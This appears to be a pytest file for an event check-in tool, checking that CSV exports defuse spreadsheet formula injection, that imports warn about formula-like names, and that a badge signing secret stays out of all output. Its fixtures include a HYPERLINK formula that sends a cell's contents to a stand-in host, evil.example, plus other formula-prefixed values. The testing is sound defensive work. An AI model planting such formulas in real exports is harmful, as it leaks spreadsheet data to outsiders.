"""Exports are safe to open: a spreadsheet never runs a cell of a CSV floor writes as a
formula (OWASP's leading apostrophe), JSON keeps every value as it is, and the event's
signing secret (which mints badges) is in nothing floor exports, reports or prints."""

import csv
import io
import json

import pytest
from helpers import AT_0905, PARTICIPANTS, run_floor, write_folder

from db import read_event
from db.connection import connect
from floor import ops
from floor.domain.clock import FixedClock
from floor.eventfolder import import_event, read_event_folder
from floor.eventfolder.write import write_event_folder
from floor.ops.badges import issue_tokens

# What a mischievous (or unlucky) spreadsheet user can type into a name, an organisation
# or a role, each starting with one of the characters a spreadsheet reads as a formula.
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1;"click")'
FORMULAS = PARTICIPANTS.replace(
    "A2,Élodie Lefèvre,Atelier Calanque,FR,Design,Founder,",
    'A2,"=HYPERLINK(""http://evil.example/?""&A1;""click"")",+SUM(1+1),FR,Design,-2+3,'
).replace("Culture & Media", "@SUM(A1:A9)")


@pytest.fixture
def formula_file(tmp_path, clock):
    folder = write_folder(tmp_path / "ev", participants=FORMULAS)
    dest = tmp_path / "formulas.db"
    import_event(folder, dest, clock=clock)
    db = connect(dest)
    # A walk-in typed at the door (their id too), checked in at a station whose name
    # starts with a Tab, by an actor named like a formula; then given a meeting.
    ops.add_participant(db, name="=1+2", organisation="@Home", country="IT",
                        participant_id="-W1", check_in_station="\tdoor 1", clock=clock,
                        actor="@door 1")
    ops.add_meeting(db, "-W1", "A5", 4, clock=clock, actor="+manager")
    db.conn.close()
    return dest


def exported(event_file, what, *extra):
    result = run_floor("export", what, "--db", event_file, *extra)
    assert result.exit_code == 0, result.output
    return result.stdout


def cells(csv_text):
    return [cell for row in csv.reader(io.StringIO(csv_text)) for cell in row]


def test_formula_like_cells_get_an_apostrophe_in_the_participants_export(formula_file):
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(exported(formula_file,
                                                                     "participants")))}
    assert rows["A2"]["name"] == "'" + HYPERLINK
    assert rows["A2"]["organisation"] == "'+SUM(1+1)"
    assert rows["A2"]["role"] == "'-2+3"
    assert rows["A3"]["sector"] == "'@SUM(A1:A9)"
    walk_in = rows["'-W1"]
    assert walk_in["name"] == "'=1+2" and walk_in["organisation"] == "'@Home"
    assert walk_in["checked_in_station"] == "'\tdoor 1"
    assert rows["A1"]["name"] == "Γιώργος Παπαδόπουλος"  # the others as they are


@pytest.mark.parametrize("what", ["participants", "schedule", "journal"])
def test_no_csv_export_has_a_cell_a_spreadsheet_would_run(formula_file, what):
    found = cells(exported(formula_file, what))
    assert found, what
    assert not [c for c in found if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_json_export_keeps_every_value_exactly(formula_file):
    people = {p["id"]: p for p in json.loads(exported(formula_file, "participants", "--json"))}
    assert people["A2"]["name"] == HYPERLINK
    assert people["A2"]["organisation"] == "+SUM(1+1)"


def test_the_import_warns_about_formula_like_names_with_file_and_line(tmp_path, clock):
    folder = write_folder(tmp_path / "ev", participants=FORMULAS)
    result = run_floor("import", folder, "--db", tmp_path / "new.db")
    assert result.exit_code == 0, result.output  # a warning, not a refusal
    warnings = [line for line in result.stderr.splitlines() if line.startswith("warning:")]
    assert warnings[0] == (
        "warning: participants.csv, line 3, column 2 (name): "
        "'=HYPERLINK(\"http://evil.example/?\"&A1;\"c…' starts with '=', which a spreadsheet "
        "runs as a formula; floor's CSV exports put an apostrophe before it")
    assert any("line 3, column 3 (organisation): '+SUM(1+1)'" in w for w in warnings)
    assert any("line 4, column 5 (sector): '@SUM(A1:A9)'" in w for w in warnings)


def test_an_event_folder_written_by_floor_reads_back_exactly(tmp_path):
    # The event folder is floor's own input: no apostrophe, or it would grow at each trip.
    spec = read_event_folder(write_folder(tmp_path / "ev", participants=FORMULAS))
    again = read_event_folder(write_event_folder(spec, tmp_path / "again"))
    assert again.participants == spec.participants
    assert again.participants[1].name == HYPERLINK


def test_the_signing_secret_is_in_no_export_report_or_printout(formula_file, tmp_path):
    db = connect(formula_file)
    secret = read_event.event(db)["secret"]
    issue_tokens(db, clock=FixedClock(AT_0905))  # the badges' tokens are made from it
    db.conn.close()
    said = []
    for what in ("participants", "schedule", "journal"):
        said += [exported(formula_file, what), exported(formula_file, what, "--json")]
    for command in (["show", "--now", "09:05"], ["report"], ["check"]):
        result = run_floor(*command, "--db", formula_file)
        assert result.exit_code == 0, result.output
        said.append(result.output)
    assert run_floor("report", "--db", formula_file, "-o", tmp_path / "report.html",
                     "--now", "09:05").exit_code == 0
    said.append((tmp_path / "report.html").read_text(encoding="utf-8"))
    assert all(secret not in text and secret.upper() not in text for text in said)
